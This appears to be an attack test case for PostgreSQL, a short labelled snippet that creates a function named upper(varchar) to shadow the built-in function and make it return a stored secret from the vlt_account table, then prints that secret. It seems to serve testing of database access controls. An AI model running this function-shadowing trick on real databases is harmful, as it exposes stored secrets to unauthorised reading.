-- Makes a function in the block that goes before one that is known.
-- wants: read
-- attack:
DO $$ BEGIN
  CREATE FUNCTION upper(varchar) RETURNS text LANGUAGE plpgsql AS
    'BEGIN RETURN (SELECT secret FROM vlt_account LIMIT 1); END';
  RAISE NOTICE '%', public.upper('x'::varchar);
END $$;
